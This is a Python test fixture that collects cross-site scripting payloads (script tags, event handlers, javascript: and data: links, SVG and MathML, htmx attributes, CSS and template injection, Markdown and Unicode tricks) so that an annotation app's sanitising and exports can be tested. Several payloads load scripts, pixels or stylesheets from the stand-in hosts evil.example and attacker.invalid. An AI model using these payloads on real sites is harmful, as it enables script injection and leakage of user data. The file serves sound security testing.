"""Hostile input for every field a member can write: one corpus for every XSS test.

Whatever would run calls alert/confirm/prompt, or asks for something from one of HOSTS or a
same-origin path holding MARKER, so a browser catches it as a dialog, a request or a CSP
violation. `MARKDOWN` is the whole corpus (for bodies, statements, rulings, notes, reasons,
descriptions, citations and the source text); `SHORT` holds the payloads that fit the short
fields (tags, display names, page labels: at most 50 characters).
"""

from __future__ import annotations

from tests.annotate.test_markdown import PAYLOADS as FIRST

HOSTS = ("evil.example", "attacker.invalid")
MARKER = "xss-probe"

SCRIPT = [
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script>fetch('//evil.example/xss-probe')</script>",
    "</textarea><script>alert(2)</script>",
    "</title><script>alert(3)</script>",
    '"><script>alert(4)</script>',
    "'><script>alert(5)</script>",
    "</p></div></article></main><script>alert(6)</script>",
    "</script><script>alert(7)</script>",
    "<scr<script>ipt>alert(8)</scr</script>ipt>",
    "<!--<script>alert(9)//-->",
    "<![CDATA[<script>alert(10)</script>]]>",
    '<noscript><p title="</noscript><img src=x onerror=alert(11)>">',
    "<template><script>alert(12)</script></template>",
    '<script type="module">import("//evil.example/m.js")</script>',
]

HANDLERS = [
    "<body onload=alert(20)>",
    "<input autofocus onfocus=alert(21)>",
    "<video><source onerror=alert(22)></video>",
    '<div onmouseover="alert(23)">hover</div>',
    "<a onfocus=alert(24) autofocus href=#x>focus</a>",
    "<img src=x:alert(alt) onerror=eval(src) alt=25>",
    "<img/src/onerror=alert(26)>",
    "<img src=x onerror\x0c=alert(27)>",
    "<svg><animate onbegin=alert(28) attributeName=x dur=1s>",
    "<marquee onstart=alert(29)>x</marquee>",
    "<select autofocus onfocus=alert(30)></select>",
    '<x contenteditable onblur="alert(31)">x</x>',
]

SCHEMES = [
    "[x]( javascript:alert(40) )",
    "[x](java&#115;cript:alert(41))",
    "[x](javascript&#58;alert(42))",
    "[x](&#x6A;avascript:alert(43))",
    "[x](javascript\\:alert(44))",
    "[x](<javascript:alert(45)>)",
    "[x](data:text/html,<script>alert(46)</script>)",
    "[x](vbscript:msgbox(47))",
    "![x](javascript:alert(48))",
    "![pixel](https://evil.example/pixel.png)",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoNDkpPg==)",
    '<img src="https://evil.example/pixel.png">',
    '[x](https://evil.example/"onmouseover="alert(50))',
    "[x](//evil.example/xss-probe)",
    '[x](https://evil.example/ "t\\" onmouseover=alert(51) x=\\"")',
    '[x](https://example.org/?a=@ada "@ada")',
    '<iframe src="javascript:alert(52)"></iframe>',
    '<form action="javascript:alert(53)"><button>go</button></form>',
    "<button form=f formaction=javascript:alert(54)>go</button>",
    '<embed src="javascript:alert(55)">',
    '<a href="jav&#x09;ascript:alert(56)">x</a>',
    '<a href=" javascript:alert(57)">x</a>',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(58)">',
    '<base href="//evil.example/">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCg1OSk8L3NjcmlwdD4=">x</a>',
    '<img srcset="https://evil.example/a.png 1x">',
    '<a ping="https://evil.example/ping" href="#x">x</a>',
]

SVG_MATHML = [
    "<svg><script>alert(60)</script></svg>",
    '<svg><a xlink:href="javascript:alert(61)"><text y="20">x</text></a></svg>',
    '<svg><set attributeName="href" to="javascript:alert(62)"/></svg>',
    '<svg><foreignObject><iframe srcdoc="<script>alert(63)</script>">'
    "</iframe></foreignObject></svg>",
    '<math><maction actiontype="statusline" xlink:href="javascript:alert(64)">x</maction></math>',
    '<math href="javascript:alert(65)">x</math>',
    "<svg><style><img src=x onerror=alert(66)></style></svg>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(67)>",
    '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(68)>#x"/></svg>',
    "<math><mi xlink:href=javascript:alert(69)>x</mi></math>",
]

HTMX = [
    '<div hx-get="/xss-probe/hx" hx-trigger="load">x</div>',
    '<span data-hx-post="/xss-probe/hx" data-hx-trigger="load">x</span>',
    '<div hx-on:click="alert(70)">click</div>',
    '<div hx-on::load="alert(71)">x</div>',
    '<img src=x hx-on:htmx:load="alert(72)">',
    '<div data-hx-on:htmx:load="alert(73)">x</div>',
    '<a hx-get="//evil.example/xss-probe" hx-trigger="load">x</a>',
    "<div hx-vals='js:{a:alert(74)}' hx-get=/xss-probe/vals hx-trigger=load>x</div>",
    '<div hx-swap-oob="true" id="panel">xss-probe oob</div>',
    '<div hx-post="/xss-probe/h" hx-headers=\'{"X":"1"}\' hx-trigger="load">x</div>',
    '<form hx-post="/xss-probe/form" hx-trigger="load"></form>',
    '<div hx-get="/xss-probe/every" hx-trigger="every 1s">x</div>',
    '<p hx-ext="xss-probe" hx-disinherit="*">x</p>',
]

BROKEN = [
    '<img src="x',
    '<a href="javascript:alert(80)',
    '<div title="',
    "<!--",
    "<style>",
    "<textarea>",
    "<xmp><img src=x onerror=alert(81)></xmp>",
    "<plaintext>",
    "<title>",
    "<iframe>",
    '<a href="x" <img src=x onerror=alert(82)>',
    "<<img src=x onerror=alert(83)>>",
    '<img """><script>alert(84)</script>">',
    "</div></div></section></body></html>",
    '<img src=x onerror="alert(85)"',
    "<select><template><img src=x onerror=alert(86)></template></select>",
]

ENCODINGS = [
    "&lt;script&gt;alert(90)&lt;/script&gt;",
    "&#60;script&#62;alert(91)&#60;/script&#62;",
    "\\u003cscript\\u003ealert(92)\\u003c/script\\u003e",
    "%3Cscript%3Ealert(93)%3C/script%3E",
    "\\x3cimg src=x onerror=alert(94)\\x3e",
    "&amp;lt;script&amp;gt;alert(95)",
    "＜script＞alert(96)＜/script＞",
    "+ADw-script+AD4-alert(97)+ADw-/script+AD4-",
    "&#x3C;img src=x onerror=alert(98)&#x3E;",
    "&lt;img src=x onerror=alert(99)&gt;",
]

CSS = [
    '<p style="background:url(https://evil.example/css.png)">x</p>',
    '<div style="position:fixed;inset:0;z-index:9999;background:red">cover</div>',
    "<style>@import url(https://evil.example/x.css);</style>",
    "<style>*{background:url(//evil.example/xss-probe)}</style>",
    '<span style="behavior:url(x.htc)">x</span>',
    '<div style="width:expression(alert(100))">x</div>',
    '<p style="color:red;-moz-binding:url(//evil.example/x)">x</p>',
    "</style><script>alert(101)</script>",
    # A title goes into the PDF's running head, a CSS string: a newline ended it and the rest
    # was read as rules (annotate/services/exports.py, pdf_of).
    "Title\n}}} body { display: none } * { background: url(https://evil.example/xss-probe) }"
    " @page { @top-center { content: 'x",
]

TEMPLATES = [
    "{{ 7*7 }} {{ request.user.password }} {{ csrf_token }}",
    "{% debug %}{% load static %}{% static 'x' %}",
    "{{constructor.constructor('alert(110)')()}}",
    "${alert(111)} #{alert(112)} <%= 7*7 %>",
    "{{ '<script>alert(113)</script>'|safe }}",
    "{% autoescape off %}<script>alert(114)</script>{% endautoescape %}",
]

# Markdown whose reading depends on subtle CommonMark rules: reference definitions, footnotes
# and fences; raw HTML a line-by-line escaper could miss (these found a bug in the Markdown
# export, annotate/exports/markdown.py).
MARKDOWN_TRICKS = [
    "[ref]\n\n[ref]: javascript:alert(120)",
    "[click][y]\n\n[y]: <javascript:alert(121)>",
    '[z]: javascript:alert(122) "title"',
    "[^1]: javascript:alert(123)",
    "[p. 1]: javascript:alert(124)",
    "[Seminar]: https://evil.example/xss-probe",
    "``` x`\n<img src=x onerror=alert(125)>",
    "```\n```x\n```\n<img src=x onerror=alert(126)>\n```",
    "\\`<img src=x onerror=alert(127)>`",
    "``<img src=x onerror=alert(128)>`",
    "`a\n`<img src=x onerror=alert(129)>`",
    "~~~\n<script>alert(130)</script>\n~~~",
    "    <script>alert(131)</script>",
    "> <img src=x onerror=alert(132)>\n> > [x](javascript:alert(133))",
    "- <img src=x onerror=alert(134)>\n  1. [x](javascript:alert(135))",
    "<div>\n\n*md* <img src=x onerror=alert(136)>\n\n</div>",
    "Setext\n===\n<script>alert(137)</script>",
    "| a | b |\n|---|---|\n| <img src=x onerror=alert(138)> | x |",
    "[x](javascript:alert(139)) [^n]\n\n[^n]: <script>alert(140)</script>",
    "```\nunclosed fence to the end <img src=x onerror=alert(141)>",
]

AUTOLINKS = [
    "<javascript:alert(150)>",
    "<https://evil.example/xss-probe>",
    "<vbscript:msgbox(151)>",
    'https://evil.example/"><script>alert(152)</script>',
    "www.evil.example/xss-probe",
    "<mailto:x@evil.example?body=<script>alert(153)</script>>",
    "<x@evil.example>",
    "<data:text/html,<script>alert(154)</script>>",
]

UNICODE = [
    "\u202egpj.exe\u202c and \u2066isolate\u2069",
    "[x](java\u200bscript:alert(160))",
    "<scr\u200bipt>alert(161)</scr\u200bipt>",
    "line\u2028separator\u2029paragraph",
    "\ufeff<script>alert(162)</script>",
    "[x](ｊavascript:alert(163))",
    "e\u0301\u0301\u0301 zalgo\u0336\u0336",
    "\u200d\u200c\u2060\ufeff zero-width",
    "tab\tvertical\x0bform\x0cfeed",
    "<img src=x o\u200bnerror=alert(164)>",
    "\U0001f600 <b>astral</b>",
]

# Each at most 50 characters (a tag's limit), for tags, display names and page labels.
SHORT = [
    "<script>alert(170)</script>",
    '"><img src=x onerror=alert(171)>',
    "'><svg onload=alert(172)>",
    "javascript:alert(173)",
    "<a hx-get=/xss-probe hx-trigger=load>x",
    "{{ 7*7 }}{% debug %}",
    "&lt;b&gt;&#60;i&#62;",
    "\u202eevil\u202c",
    "zero\u200bwidth",
    "data:text/html,<script>alert(174)</script>",
    "</textarea></title><b>x",
    "<style>*{color:red}</style>",
    "*em* [x](javascript:alert(175))",
    '" onmouseover="alert(176)" x="',
    "' onfocus='alert(177)' autofocus='",
    "<math><mi>x</mi></math>",
    "#hash --> <!--",
    "`code` <x@evil.example>",
    "@ada <b>mention</b>",
    "]]><x>",
    # A newline in a tag ended the Markdown exports' code span around it, and the next line
    # opened an HTML block (annotate/exports/markdown.py and record.py).
    "x\n<div><img src=x onerror=alert(178)>",
    "x\n\n<img src=x onerror=alert(179)>",
]

CATEGORIES: dict[str, list[str]] = {
    "first (tests/annotate/test_markdown.py)": FIRST,
    "script tags": SCRIPT,
    "event handlers": HANDLERS,
    "javascript:/data:/vbscript: links and images": SCHEMES,
    "SVG and MathML": SVG_MATHML,
    "hx-* and hx-on": HTMX,
    "broken markup": BROKEN,
    "entities and encodings": ENCODINGS,
    "CSS injection": CSS,
    "template syntax": TEMPLATES,
    "Markdown tricks": MARKDOWN_TRICKS,
    "autolinks": AUTOLINKS,
    "unicode": UNICODE,
    "short fields": SHORT,
}
MARKDOWN: list[str] = [payload for payloads in CATEGORIES.values() for payload in payloads]
assert all(len(payload) <= 50 for payload in SHORT)


def fit(limit: int, payloads: list[str] = MARKDOWN, sep: str = "\n\n") -> list[str]:
    """The payloads joined into texts of at most `limit` characters, each payload whole."""
    texts: list[str] = []
    current = ""
    for payload in payloads:
        if len(payload) > limit:
            continue
        candidate = f"{current}{sep}{payload}" if current else payload
        if len(candidate) > limit:
            texts.append(current)
            candidate = payload
        current = candidate
    if current:
        texts.append(current)
    return texts
